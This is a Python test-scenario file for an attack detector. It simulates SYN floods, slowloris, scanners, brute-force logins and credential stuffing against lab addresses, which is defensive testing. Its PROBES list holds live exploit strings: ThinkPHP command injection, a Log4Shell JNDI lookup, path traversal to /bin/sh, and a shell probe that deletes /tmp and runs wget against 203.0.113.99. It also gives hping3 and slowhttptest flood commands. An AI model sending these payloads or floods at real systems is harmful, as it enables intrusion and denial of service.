# SPDX-License-Identifier: MIT
"""attacks: incidents with a culprit, or with nobody to blame but the machine."""
import random

import servers
from scenario import AFTER, BEGIN, LAST, Scenario, actor, deed, sshd, syns, tool

PROBES = [f"GET {path}" for path in (
    "/.env", "/.git/config", "/wp-login.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
    "/?x=${jndi:ldap://198.51.100.1/a}", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/phpMyAdmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.99/x")]
TLS_HELLO = "16030102000100 01fc0303".replace(" ", "") + "6162636465660a"
BINARY = "00017f454c46fffe0d0a0d0a"


def guesses(count, seed):
    """Paths that a scanner's word list would have."""
    rnd = random.Random(seed)
    words = "admin backup old test db sql dump conf api console manager upload tmp log debug setup " \
            "install phpinfo private secret data".split()
    ends = ["", ".php", ".bak", ".zip", ".sql", "/", ".old"]
    return [f"GET /{rnd.choice(words)}{rnd.choice(('', '-', '_'))}{rnd.choice(words)}"
            f"{rnd.randint(1, 99)}{rnd.choice(ends)}" for _ in range(count)]


def mixed_pages(count, seed):
    """What a flood that hides among visitors asks for."""
    rnd = random.Random(seed)
    return [rnd.choice(("GET /", "GET /search?q=sale", f"GET /articles/{rnd.randint(1, 40)}.html"))
            for _ in range(count)]


# --- the same deeds by anybody, to any server ---

def scan(sources, rate=4, **more):
    return actor("ask", sources, rate=rate, lines=guesses(500, sources), **({"agent": "own"} | more))


def crawl(sources, rate=8, **more):
    return actor("ask", sources, rate=rate, path="/app/item/{n}", **({"agent": "own"} | more))


def guess_passwords(sources, rate=3, path="/login", **more):
    return actor("ask", sources, rate=rate, method="POST", path=path, body="user=admin&pw={h}",
                 **({"agent": "own"} | more))


def burst(sources, rate=20, **more):
    return actor("ask", sources, rate=rate, lines=mixed_pages(200, sources),
                 **({"agent": "own"} | more))


def slow_headers(sources, conns=6, **more):
    return actor("drip", sources, **({"conns": conns, "rate": 25, "every": 3} | more))


def slow_bodies(sources, conns=6, **more):
    return slow_headers(sources, conns, method="POST", path="/api/upload", **more)


def churn(sources, rate=25):
    return actor("knock", sources, rate=rate, tls=True)


def two_networks():
    return Scenario(
        "SYN flood of 30 addresses of two networks, too slow for cookies",
        [syns("203.0.113.10-24,198.18.9.10-24", 15, port=443)],
        ["203.0.113.0/24", "198.18.9.0/24"], ["syn-flood"],
        must_not=["silent", "half-open"], absent=["203.0.113.0/24", "198.18.0.0/16"])


def flood_many(rate, sources, culprit, absent=(), **more):
    return Scenario(
        f"SYN flood, {rate}/s from {sources}", [syns(sources, rate)], [culprit], ["syn-flood"],
        must_not=["silent", "half-open"], absent=list(absent), **more)


KERNEL = {
    "syn-two-nets": two_networks(),
    "syn-spoofed": Scenario(
        "SYN flood by hping3 from random sources",
        [tool("hping3 -q -S -p 80 --rand-source -i u25000 192.0.2.80")], [], ["syn-spoofed"],
        must_not=["half-open", "silent"], needs=["hping3"]),
    "syn-cookies": flood_many(
        120, "203.0.113.40-59", "203.0.113.0/24", ["203.0.113.0/24"],
        options={"backlog": 64},
        settings="net.ipv4.tcp_max_syn_backlog=64 net.core.somaxconn=64"),
    "syn-22": flood_many(20, "100.64.20.0/22*300", "100.64.20.0/22", ["100.64.0.0/16"]),
    "syn-48": flood_many(20, "2001:db8:f007::/48*60", "2001:db8:f007::/48"),
    "half-open-scan": Scenario(
        "half-open scan of some 500 ports by hping3",
        [tool("hping3 -q -S -a 203.0.113.9 -p ++70 -i u40000 192.0.2.80")],
        ["203.0.113.9/32"], ["half-open"], absent=["203.0.113.0/24"], needs=["hping3"]),
    "hold": Scenario(
        "40 addresses connect 4 times and say nothing",
        [actor("hold", "203.0.113.20-59", conns=4, rate=40)], ["203.0.113.0/24"], ["silent"],
        must_not=["slow-request", "burst"]),
    "hold-64": Scenario(
        "30 addresses of a /64 connect twice and say nothing",
        [actor("hold", "2001:db8:4051:7::/64*30", conns=2, rate=30)], ["2001:db8:4051:7::/64"],
        ["silent"], must_not=["slow-request", "burst"]),
    "conn-hog": Scenario(
        "one address keeps 150 connections, one request each",
        [actor("hold", "203.0.113.196", conns=150, rate=60, path="/articles/3.html",
               agent="curl/8.5")],
        ["203.0.113.196/32"], ["conn-hog"], must_not=["silent", "slow-request", "burst"]),
    "web-frozen": Scenario(
        "the server hangs: its accept queue fills with honest clients",
        [actor("ask", "198.51.100.180-219", at=0, lasts=BEGIN + LAST + AFTER, rate=6,
               path="/articles/{r40}.html", close=True, parallel=200), deed(servers.freeze)],
        [], ["accept-queue"], must_not=["silent", "slow-request", "conn-hog"],
        options={"backlog": 24}),
    "slowloris-slowhttptest": Scenario(
        "slowhttptest -H, 120 connections of one address",
        [tool("slowhttptest -H -c 120 -r 30 -i 4 -l SECONDS -u http://192.0.2.80/ -x 10 -p 3",
              "203.0.113.77")],
        ["203.0.113.77/32"], ["slow-request"], must_not=["burst", "scanner"],
        needs=["slowhttptest"]),
    "slowloris-spread": Scenario(
        "slow headers from 30 addresses of a /24, 4 each",
        [slow_headers("203.0.113.100-129", 4)], ["203.0.113.0/24"], ["slow-request"],
        must_not=["burst"]),
    "slow-post": Scenario(
        "slowhttptest -B, 80 connections, bodies by drops",
        [tool("slowhttptest -B -c 80 -r 30 -i 3 -l SECONDS -s 8192 -u http://192.0.2.80/login -x 5 -p 3",
              "203.0.113.78")],
        ["203.0.113.78/32"], ["slow-request"], must_not=["brute-force", "burst"],
        needs=["slowhttptest"]),
    "slow-request-64": Scenario(
        "slow bodies from 20 addresses of a /64, 3 each", [slow_bodies("2001:db8:4051:8::/64*20", 3)],
        ["2001:db8:4051:8::/64"], ["slow-request"], must_not=["burst", "brute-force"]),
    "slow-request-tls-6": Scenario(
        "slow headers over TLS from one IPv6 address",
        [slow_headers("2001:db8:4060::66", 60, tls=True)], ["2001:db8:4060::66/128"],
        ["slow-request"], must_not=["burst", "tls-churn", "silent"]),
    "slow-read": Scenario(
        "6 addresses take a large file by drops, 8 connections each",
        [actor("sip", "203.0.113.140-145", conns=8, rate=20, path="/big.iso", every=1)],
        ["203.0.113.0/24"], ["slow-read"], must_not=["slow-request", "bandwidth", "burst"]),
    "tls-churn": Scenario(
        "TLS handshakes without a request, 8 addresses", [churn("203.0.113.60-67")],
        ["203.0.113.0/24"], ["tls-churn"], must_not=["slow-request"]),
    "tls-churn-22": Scenario(
        "TLS handshakes without a request, 60 addresses of a /22", [churn("100.64.40.0/22*60", 30)],
        ["100.64.40.0/22"], ["tls-churn"], must_not=["slow-request"]),
    "tls-churn-6": Scenario(
        "TLS handshakes without a request, one IPv6 address", [churn("2001:db8:4060::67", 15)],
        ["2001:db8:4060::67/128"], ["tls-churn"], must_not=["slow-request"]),
    "tls-churn-48": Scenario(
        "TLS handshakes without a request, 40 networks of a /48", [churn("2001:db8:4061::/48*40")],
        ["2001:db8:4061::/48"], ["tls-churn"], must_not=["slow-request"]),
    "bandwidth": Scenario(
        "3 addresses fetch a large file over and over",
        [actor("ask", "203.0.113.190-192", rate=3, parallel=6, path="/big.iso", pace=8000000,
               agent="curl/8.5")],
        ["203.0.113.0/24"], ["bandwidth"], must_not=["slow-read", "silent", "crawler"]),
}

REQUESTS = {
    "path-flood": Scenario(
        "80 addresses from all over ask for one path, 30/s",
        [actor("ask", "198.18.0.0/16*80", rate=30, path="/search?q=shoes", agent="own")],
        ["path:/search"], ["path-flood"], must_not=["crawler", "scanner", "cache-bust"]),
    "low-slow": Scenario(
        "600 addresses of as many networks, one request a minute each",
        [actor("ask", "198.18.0.0/16*600", rate=10, path="/search?q=x", agent="own")],
        ["path:/search"], ["path-flood"], must_not=["burst", "crawler", "scanner"]),
    "http-flood-one": Scenario(
        "ab floods from one address",
        [tool("ab -q -k -c 4 -t SECONDS -n 1200 http://192.0.2.80/search", "203.0.113.79")],
        ["203.0.113.79/32"], ["burst"], must_not=["crawler", "scanner"], needs=["ab"]),
    "crawler": Scenario(
        "one address crawls without pauses and robots.txt",
        [crawl("203.0.113.88", 12, parallel=3, agent="python-requests/2.31.0")],
        ["203.0.113.88/32"], ["crawler"], must_not=["scanner", "path-flood", "brute-force"]),
    "scanner": Scenario(
        "vulnerability scanner, hundreds of paths that are not there",
        [scan("203.0.113.89", 12, agent="Mozilla/5.00 (Nikto/2.1.6)")],
        ["203.0.113.89/32"], ["scanner"], must_not=["crawler", "path-flood"]),
    "exploit": Scenario(
        "a dozen exploit probes, one each 1.5 s, with a browser's name",
        [actor("ask", "203.0.113.90", rate=0.7, lines=PROBES)],
        ["203.0.113.90/32"], ["exploit"], must_not=["burst", "crawler"]),
    "login-brute": Scenario(
        "one address guesses passwords", [guess_passwords("203.0.113.91", 4,
                                                          agent="python-requests/2.31.0")],
        ["203.0.113.91/32"], ["brute-force"], must_not=["crawler", "scanner", "stuffing"]),
    "nat-brute": Scenario(
        "from an office with 25 browsers somebody guesses passwords",
        [actor("browse", "100.64.7.7", at=1, lasts=30, people=25, conns=2),
         guess_passwords("100.64.7.7", agent="python-requests/2.31.0")],
        ["100.64.7.7/32"], ["brute-force"],
        must_not=["crawler", "scanner", "burst", "conn-hog", "stuffing"]),
    "ssh-brute": Scenario(
        "3 addresses guess SSH passwords", [sshd(), actor("knock", "203.0.113.92-94", port=22, rate=2,
                                                          stay=0.3)],
        [f"203.0.113.{n}/32" for n in (92, 93, 94)], ["ssh-brute-force"],
        must_not=["brute-force", "silent", "tls-churn"], ssh=True),
    "ssh-break-in": Scenario(
        "after seven wrong SSH passwords an address is let in",
        [sshd("7"), actor("knock", "203.0.113.95", port=22, rate=1.5, stay=0.3)],
        ["203.0.113.95/32"], ["ssh-break-in"], limit=15, may=["ssh-brute-force"],
        must_not=["brute-force", "silent", "tls-churn"], ssh=True),
    "stuffing": Scenario(
        "credential stuffing, 120 addresses from all over",
        [guess_passwords("198.18.0.0/16*120", 10)], ["path:/login"], ["stuffing"],
        must_not=["brute-force", "crawler", "scanner"]),
    "garbage": Scenario(
        "binary and TLS on port 80, 5 addresses",
        [actor("knock", "203.0.113.150-154", rate=2.5, say=said) for said in (TLS_HELLO, BINARY)],
        ["203.0.113.0/24"], ["garbage"], must_not=["tls-churn", "scanner", "brute-force"]),
    "forged-client": Scenario(
        "one peer claims another client in each request; nobody is trusted",
        [actor("ask", "203.0.113.95", rate=5, path="/search?q=a",
               headers=["X-Forwarded-For: 10.{r254}.{r254}.{r254}"])],
        ["203.0.113.95/32"], ["forged-client"], must_not=["path-flood"], options={"format": "xff"}),
    "direct-origin": Scenario(
        "behind a CDN of 6 edges; 4 addresses come past it",
        [actor("ask", "198.51.100.40-45", at=0, lasts=600, rate=12, path="/articles/{r40}.html",
               headers=["X-Forwarded-For: 198.18.{r3}.{r250}"]),
         actor("ask", "203.0.113.50-53", rate=8, path="/search?q=direct", close=True,
               agent="python-requests/2.31.0")],
        ["203.0.113.0/24"], ["direct-origin"], must_not=["crawler", "silent"],
        innocents=["198.51.100.40/29"], visitors=False, arguments=["--trusted-proxies=198.51.100.40/29"],
        options={"format": "realip", "trust": ["198.51.100.40/29"]}),
    "cache-bust": Scenario(
        "25 addresses make up query strings, 30/s",
        [actor("ask", "203.0.113.160-184", rate=30, path="/?{n}", agent="own")],
        ["203.0.113.0/24"], ["cache-bust"], must_not=["crawler", "scanner"]),
    "h2-reset": Scenario(
        "HTTP/2 streams opened and reset at once, 3 connections",
        [actor("streams", "203.0.113.186-188", rate=40, path="/search?q={n}", reset=True)],
        ["203.0.113.0/24"], ["h2-burst"], must_not=["scanner", "silent"]),
    "agent-flood": Scenario(
        "150 addresses scrape with one odd agent, each another path",
        [crawl("198.18.0.0/16*150", 25, agent="Mozilla/5.0 (Windows NT 6.1) Chrome/70.0")],
        ["agent:Mozilla/5.0 (Windows NT 6.1) Chrome/70.0"], ["agent-flood"],
        must_not=["burst", "scanner", "cache-bust"]),
    "backend-death": Scenario(
        "the backend dies: 502 for everybody",
        [actor("ask", "198.51.100.180-199", at=0, lasts=600, rate=8, path="/app/{r40}"),
         deed(servers.kill_backend)],
        [], ["error-surge"], must_not=["scanner", "brute-force", "burst", "path-flood"]),
    "traffic-gone": Scenario(
        "after a minute nobody comes any more",
        [actor("ask", "198.18.0.0/16*60", at=0, lasts=70, rate=8, path="/articles/{r40}.html")],
        [], ["traffic-gone"], must_not=["silent", "burst", "path-flood"], visitors=False, start=70,
        seconds=100, limit=25, innocents=["198.18.0.0/16"]),
    "burst-tls-6": Scenario(
        "one IPv6 address floods over TLS", [burst("2001:db8:4060::71", 15, tls=True,
                                                   agent="Go-http-client/1.1")],
        ["2001:db8:4060::71/128"], ["burst"], must_not=["scanner"]),
    "scanner-tls-6": Scenario(
        "one IPv6 address scans over TLS", [scan("2001:db8:4060::72", 4, tls=True)],
        ["2001:db8:4060::72/128"], ["scanner"], must_not=["crawler", "path-flood", "burst"]),
}

MINUTE = {"lasts": 45, "at": BEGIN}
RAMPS = {
    "ramp-path": Scenario(
        "a path flood grows from 0.5/s to 20/s in 45 s, 90 addresses",
        [actor("ask", "198.18.0.0/16*90", rate=20, slow_start=0.5, path="/search/items?q=x",
               agent="own", **MINUTE)],
        ["path:/search/items"], ["path-flood"], limit=30, seconds=BEGIN + 45 + AFTER,
        must_not=["crawler", "scanner", "cache-bust", "burst", "stuffing"]),
    "ramp-brute": Scenario(
        "one address guesses passwords, from 1 in 10 s to 2/s in 45 s",
        [guess_passwords("203.0.113.101", 2, slow_start=0.1, **MINUTE)],
        ["203.0.113.101/32"], ["brute-force"], limit=30, seconds=BEGIN + 45 + AFTER,
        must_not=["crawler", "scanner", "stuffing"]),
    "ramp-scan": Scenario(
        "a scanner goes from 1 in 5 s to 4/s in 45 s",
        [scan("203.0.113.102", 4, slow_start=0.2, **MINUTE)],
        ["203.0.113.102/32"], ["scanner"], limit=30, seconds=BEGIN + 45 + AFTER,
        must_not=["crawler", "path-flood", "burst"]),
    "ramp-slow-request": Scenario(
        "slow headers, one more connection a second",
        [slow_headers("203.0.113.103", 60, rate=1, **MINUTE)],
        ["203.0.113.103/32"], ["slow-request"], limit=35, seconds=BEGIN + 45 + AFTER,
        must_not=["burst", "silent"]),
}

MIXED = {
    "mix-syn-scan": Scenario(
        "SYN flood of a /24, a scanner, and a crowd of visitors",
        [syns("100.64.128.10-200", 15), scan("203.0.113.77"),
         actor("browse", "198.18.0.0/16*30", lasts=24, stagger=15)],
        ["100.64.128.0/24", "203.0.113.77/32"], ["syn-flood", "scanner"],
        must_not=["crawler", "path-flood", "silent"], innocents=["198.18.0.0/15"],
        absent=["100.64.0.0/16"]),
    "mix-slow-brute": Scenario(
        "slow headers of one address, guessed passwords of another",
        [slow_headers("203.0.113.104", 50), guess_passwords("100.64.9.9")],
        ["203.0.113.104/32", "100.64.9.9/32"], ["slow-request", "brute-force"],
        must_not=["stuffing", "crawler", "scanner", "burst"]),
    "mix-crawl-stuff": Scenario(
        "a crawler, and credential stuffing from all over",
        [crawl("203.0.113.105", 10, agent="python-requests/2.31.0"),
         guess_passwords("198.18.0.0/16*100", 8)],
        ["203.0.113.105/32", "path:/login"], ["crawler", "stuffing"],
        must_not=["brute-force", "scanner", "path-flood"]),
}


def spread_table():
    """What single addresses do above, by many of one network with browsers' names."""
    places = {"24": "100.64.77.0/24", "22": "100.64.8.0/22", "64": "2001:db8:4051:7::/64",
              "48": "2001:db8:4007::/48"}
    deeds = {
        "crawler": (crawl, 70, 12, ["crawler"], [], ["scanner", "stuffing", "cache-bust"]),
        "scanner": (scan, 60, 6, ["scanner"], [], ["crawler", "path-flood", "stuffing"]),
        "burst": (burst, 120, 25, ["burst"], ["path-flood"], ["scanner", "stuffing", "cache-bust"]),
        "brute": (guess_passwords, 60, 5, ["stuffing"], ["brute-force"], ["crawler", "scanner"]),
    }
    table = {}
    for name, (deed_of, count, rate, expect, accept, must_not) in deeds.items():
        for size, net in places.items():
            table[f"spread-{name}-{size}"] = Scenario(
                f"{name} spread over {count} addresses of {net}, {rate}/s",
                [deed_of(f"{net}*{count}", rate)], [net], expect, accept, must_not,
                limit=20 if size == "22" else 0)  # each /24 has a quarter of it
    return table


def servers_table():
    """The logs of other servers. HAProxy's have no agents, Caddy's server speaks TLS."""
    deeds = {
        "scanner": (lambda **tls: scan("198.18.140.44", 3, **tls), "scanner",
                    ["crawler", "path-flood", "burst"]),
        "brute": (lambda **tls: guess_passwords("198.18.140.44", 2, "/api/auth/login", **tls),
                  "brute-force", ["crawler", "scanner", "stuffing"]),
        "burst": (lambda **tls: burst("198.18.140.44", 15, agent="Go-http-client/1.1", **tls),
                  "burst", ["scanner"]),
        "slow-request": (lambda **tls: slow_headers("198.18.140.40-45", 8, **tls), "slow-request",
                         ["burst", "silent", "tls-churn", "scanner"]),
    }
    table = {}
    for server in ("apache", "haproxy", "caddy"):
        for name, (deed_of, flag, must_not) in deeds.items():
            culprit = "198.18.140.0/24" if name == "slow-request" else "198.18.140.44/32"
            tls = {"tls": True} if server == "caddy" else {}
            table[f"{server}-{name}"] = Scenario(
                f"{server}: {name}", [deed_of(**tls)], [culprit], [flag], must_not=must_not,
                server=server, needs=servers.NEEDS[server])
    table["apache-basic-brute"] = Scenario(
        "Apache: Basic passwords guessed for /admin",
        [actor("ask", "198.18.140.44", rate=2, path="/admin/", agent="own",
               headers=["Authorization: Basic YWRtaW46e2h9"])],
        ["198.18.140.44/32"], ["brute-force"], must_not=["crawler", "scanner", "stuffing"],
        server="apache", needs=servers.NEEDS["apache"])
    table["lighttpd-slow-read"] = Scenario(
        "lighttpd: a large file taken by drops, 5 addresses",
        [actor("sip", "203.0.113.170-174", conns=6, rate=20, path="/big.iso", every=1)],
        ["203.0.113.0/24"], ["slow-read"], server="lighttpd", needs=servers.NEEDS["lighttpd"],
        must_not=["slow-request", "bandwidth", "burst", "silent"])
    table["caddy-h3-scan"] = Scenario(
        "Caddy: a scanner over HTTP/3", [quic("4", "conf$part/$name.old")],
        ["203.0.113.219/32"], ["scanner"], must_not=["crawler", "path-flood", "burst", "silent"],
        server="caddy", needs=["caddy", "curl", "gtlsclient"])
    table["caddy-h3-flood"] = Scenario(
        "Caddy: a flood over HTTP/3 of one address", [quic("40", "search?q=$name")],
        ["203.0.113.219/32"], ["quic-flood"], ["burst"], ["crawler", "scanner", "silent"],
        may=["quic-flood"], server="caddy", needs=["caddy", "curl", "gtlsclient"])
    return table


def quic(count, path):
    """ngtcp2's client asks for count paths over one connection, and waits for a second; and again."""
    def start(lab, seconds):
        lab.sh("ip -n world route replace 192.0.2.80/32 dev eth0 src 203.0.113.219")
        return lab.start("world", ["bash", lab.write("quic.sh", f"""for part in {{1..{round(seconds)}}}; do
 for name in {{1..{count}}}; do echo https://web1.example/{path}; done |
 xargs timeout 1 gtlsclient --exit-on-all-streams-close --timeout=1s -q 192.0.2.80 443
done
""")])
    return BEGIN, LAST, start


TABLE = KERNEL | REQUESTS | RAMPS | MIXED | spread_table() | servers_table()
